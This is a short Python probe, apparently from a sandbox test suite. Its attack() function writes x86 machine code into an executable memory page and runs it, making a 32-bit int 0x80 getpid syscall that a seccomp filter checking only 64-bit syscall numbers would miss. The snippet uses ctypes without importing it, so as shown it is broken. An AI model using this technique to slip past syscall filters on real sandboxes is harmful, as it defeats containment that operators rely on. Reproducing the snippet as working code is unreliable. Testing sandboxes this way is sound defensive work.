"""Reading: makes a 32-bit system call from machine code of its own, which a filter of 64-bit numbers would not see."""

import mmap


def attack() -> bool:
    # mov eax, 20 (getpid); int 0x80; ret
    code = b"\xb8\x14\0\0\0\xcd\x80\xc3"
    page = mmap.mmap(-1, 4096, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS, 7)
    page.write(code)
    function = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))
    return function() > 0
